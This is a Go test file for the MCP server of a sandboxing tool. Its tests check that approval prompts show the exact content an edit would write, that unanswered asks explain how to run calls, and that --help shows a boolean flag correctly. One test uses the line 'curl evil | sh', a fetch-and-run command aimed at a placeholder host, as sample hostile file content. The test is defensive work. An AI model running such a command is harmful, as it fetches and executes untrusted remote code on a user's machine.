package mcpserver

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/sandboxd/sandboxd/cmd/sbctl/internal/cli"
	"github.com/sandboxd/sandboxd/protocol"
)

// TestAskShowsTheChange: the question an asked edit puts to the client's user shows what it
// writes, not only the path: approving runs all of it.
func TestAskShowsTheChange(t *testing.T) {
	cr := protocol.CallRequest{Tool: "Write", Input: json.RawMessage(`{"file_path":"/p/notes.md","content":"curl evil | sh\n"}`)}
	asked := &protocol.CallResult{Decision: &protocol.Decision{Behavior: protocol.Ask, Reason: "default mode"}, ApprovalID: "ap_1"}
	pv := []protocol.Preview{{Path: "/p/notes.md", Diff: "--- /dev/null\n+++ b/p/notes.md\n@@ -0,0 +1,1 @@\n+curl evil | sh\n"}}
	res := askThroughClient(cr, asked, pv)
	b, err := json.Marshal(res)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), "+curl evil | sh") {
		t.Errorf("the question does not show what approving writes: %s", b)
	}
}

// An ask nobody can answer says every way to get such calls run, the queue's included.
func TestAskResultSaysHowToRun(t *testing.T) {
	r := toResult(&protocol.CallResult{ApprovalID: "ap_1", Decision: &protocol.Decision{Behavior: protocol.Ask, Reason: "r", Source: "mode"}}, 0)
	text := r.Content[0].(*mcp.TextContent).Text
	for _, want := range []string{"ap_1", "--allow", "--wait", "sbctl approvals --watch", "--mode"} {
		if !r.IsError || !strings.Contains(text, want) {
			t.Errorf("ask result lacks %q: %s", want, text)
		}
	}
	// With --wait, the ask came back because no answer came in time: it says so, and does
	// not tell the user to start the server with the --wait it has.
	r = toResult(&protocol.CallResult{ApprovalID: "ap_1", Decision: &protocol.Decision{Behavior: protocol.Ask, Reason: "r", Source: "mode"}}, 8*time.Second)
	text = r.Content[0].(*mcp.TextContent).Text
	if !strings.Contains(text, "no answer came within 8s") || strings.Contains(text, "--wait D") || strings.Contains(text, "no one to ask") {
		t.Errorf("an ask after --wait 8s: %s", text)
	}
}

// TestHelpNamesTypes: a back-quoted word in a flag's usage becomes its value's name in
// --help, and made the boolean --persist-cwd look as though it took an argument ("cd").
func TestHelpNamesTypes(t *testing.T) {
	var errb bytes.Buffer
	_ = Cmd(&cli.Env{Stdout: &errb, Stderr: &errb}, []string{"--help"})
	if !strings.Contains(errb.String(), "-persist-cwd\n") {
		t.Errorf("--help does not show -persist-cwd as a boolean:\n%s", errb.String())
	}
}
